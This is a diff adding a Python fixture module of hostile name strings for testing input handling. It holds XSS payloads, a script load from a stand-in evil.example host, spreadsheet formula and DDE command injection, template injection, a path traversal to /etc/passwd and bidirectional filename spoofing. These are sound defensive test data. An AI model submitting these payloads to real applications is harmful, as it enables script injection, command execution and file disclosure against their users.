@@ -1,0 +1,37 @@
+"""Names that try to be something else: markup, formulas, directives, marks that hide or reorder."""
+
+from __future__ import annotations
+
+HOSTILE: dict[str, str] = {
+    "script": "<script>alert(1)</script>",
+    "image": '<img src=x onerror="alert(1)">',
+    "attribute": '" autofocus onfocus="alert(1)" x="',
+    "single_quotes": "' onmouseover='alert(1)",
+    "closing_script": '</script><script src="https://evil.example/x.js"></script>',
+    "closing_style": "</style><style>*{display:none}</style>",
+    "comment": "--><script>alert(1)</script><!--",
+    "cdata": "]]><script>alert(1)</script>",
+    "template": "{{ 7 * 7 }}{% for x in range(9) %}{{ x }}{% endfor %}",
+    "link": "javascript:alert(1)",
+    "formula": "=1+1",
+    "command": '=cmd|"/C calc"!A1',
+    "hyperlink": '=HYPERLINK("https://evil.example/","click")',
+    "plus": "+SUM(1,2)",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(A1:A9)",
+    "tab": "\t=1+1",
+    "carriage_return": "\r=1+1",
+    "negative_number": "-5",
+    "line_breaks": "one\r\ntwo\nthree",
+    "controls": "bell\x07 escape\x1b[31mred null-ish\x01",
+    "bidirectional": "invoice\u202egnp.exe",
+    "invisible": "a\u200bb\ufeffc",
+    "quotes": "she said \"hi\", he said 'no'; a,b",
+    "scripts": "株式会社 Ελληνικά العربية Ångström 👩‍💻",
+    "path": "../../etc/passwd",
+    "device": "CON",
+    "long": "x" * 1_000_000,
+    "escape_sequence": "_x0041_",
+    "entity": "&lt;script&gt;&#60;",
+    "blank": "   ",
+}
